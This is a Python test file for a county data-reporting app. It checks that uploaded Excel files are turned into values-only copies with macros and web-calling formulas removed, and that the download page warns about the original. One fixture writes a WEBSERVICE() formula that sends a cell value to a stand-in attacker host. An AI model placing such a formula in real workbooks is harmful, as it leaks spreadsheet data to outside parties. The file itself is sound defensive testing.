"""The original upload handed back to leaders may carry a VBA project and live WEBSERVICE()
formulas: 报送记录 offers a values-only copy by default and says what the original holds."""
from __future__ import annotations

import io
import zipfile

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import select, update

from data_access import models as m
from data_access.access import Actor, PermissionDenied
from data_access.db import session_scope
from data_access.ingest import clean_copy, history


def _hostile_workbook() -> bytes:
    """A sheet as a liaison's Excel might leave it: figures, a WEBSERVICE() formula calling out,
    a text that looks like a formula, a hidden sheet, a date; then a VBA project added to the zip."""
    import datetime as dt

    wb = Workbook()
    ws = wb.active
    ws.title = "一季度"
    ws.append(["乡镇", "登记患者数", "备注"])
    ws.append(["北山乡", 131, "=1+1 写的是文字"])
    ws["C2"].data_type = "s"  # stored as text in the original
    ws["D2"] = '=WEBSERVICE("http://evil.example/?q="&A2)'
    ws["E2"] = dt.date(2026, 9, 30)
    hidden = wb.create_sheet("_meta")
    hidden["A1"] = "v3"
    hidden.sheet_state = "hidden"
    buf = io.BytesIO()
    wb.save(buf)
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(buf.getvalue())) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            dst.writestr(item, src.read(item.filename))
        dst.writestr("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0fake vba project")
    return out.getvalue()


def test_values_only_copy_drops_macros_and_formulas() -> None:
    original = _hostile_workbook()
    copy = clean_copy.clean_copy(original)  # in a sandbox child, as the page does
    assert copy.risks == (clean_copy.MACROS, clean_copy.WEB_FORMULAS)
    with zipfile.ZipFile(io.BytesIO(copy.data)) as z:
        names = z.namelist()
        xml = b"".join(z.read(n) for n in names if n.startswith("xl/worksheets/"))
    assert not any("vba" in n.lower() for n in names)
    assert b"<f>" not in xml and b"<f " not in xml and b"WEBSERVICE" not in xml.upper()
    wb = load_workbook(io.BytesIO(copy.data))
    assert wb.sheetnames == ["一季度", "_meta"] and wb["_meta"].sheet_state == "hidden"
    ws = wb["一季度"]
    assert [c.value for c in ws[2]][:3] == ["北山乡", 131, "=1+1 写的是文字"]
    assert ws["C2"].data_type == "s"                      # text stays text
    assert ws["E2"].value.date().isoformat() == "2026-09-30"


def test_a_plain_workbook_has_no_risks() -> None:
    wb = Workbook()
    wb.active.append(["乡镇", 1])
    buf = io.BytesIO()
    wb.save(buf)
    assert clean_copy.risks_of(buf.getvalue()) == ()
    assert clean_copy.copy_name("卫健委2026Q3.xlsm") == "卫健委2026Q3（数据副本）.xlsx"
    assert clean_copy.copy_name("health.xls", "en") == "health (data copy).xlsx"


def test_a_damaged_file_is_refused_not_crashed() -> None:
    with pytest.raises(clean_copy.CopyRefused):
        clean_copy.clean_copy(_hostile_workbook()[:3000])


def test_clean_file_keeps_the_access_rule(county) -> None:  # noqa: ANN001
    with session_scope(county) as s:
        sub = s.scalars(select(m.Submission).where(m.Submission.status == "accepted")).first()
        dept = s.get(m.Department, sub.department_id)
        other = s.scalars(select(m.Department).where(m.Department.id != dept.id)).first()
        s.execute(update(m.Submission).where(m.Submission.id == sub.id)
                  .values(content=_hostile_workbook(), filename="卫健委.xlsm"))
        sub_id = sub.id
    leader = Actor(user_id=None, username="leader", role="leader")
    with session_scope(county) as s:
        name, data, risks = history.clean_file(s, leader, sub_id)
    assert name.endswith("（数据副本）.xlsx") and clean_copy.MACROS in risks
    assert load_workbook(io.BytesIO(data)).sheetnames[0] == "一季度"
    stranger = Actor(user_id=None, username="x", role="liaison", department_id=other.id)
    with pytest.raises(PermissionDenied), session_scope(county) as s:
        history.clean_file(s, stranger, sub_id)


def test_submissions_page_offers_the_copy_first_and_warns_beside_the_original(writable_app) -> None:  # noqa: ANN001
    from helpers import open_page, signed_in

    with session_scope(writable_app) as s:
        s.execute(update(m.Submission).values(content=_hostile_workbook(), filename="卫健委.xlsm"))
    at = open_page("pages/submissions.py", state=signed_in(writable_app, "leader"))
    assert not at.exception
    buttons = {b.proto.label: b.proto for b in at.get("download_button")}
    labels = [b.proto.label for b in at.get("download_button")]
    assert labels == ["下载数据副本（仅数值，推荐）", "下载原始文件（按上传时原样）"], labels
    assert buttons["下载数据副本（仅数值，推荐）"].type == "primary"
    notes = "\n".join(c.value for c in at.caption)
    assert "含有宏" in notes and "联网的公式" in notes and "请只在确认来源后打开" in notes
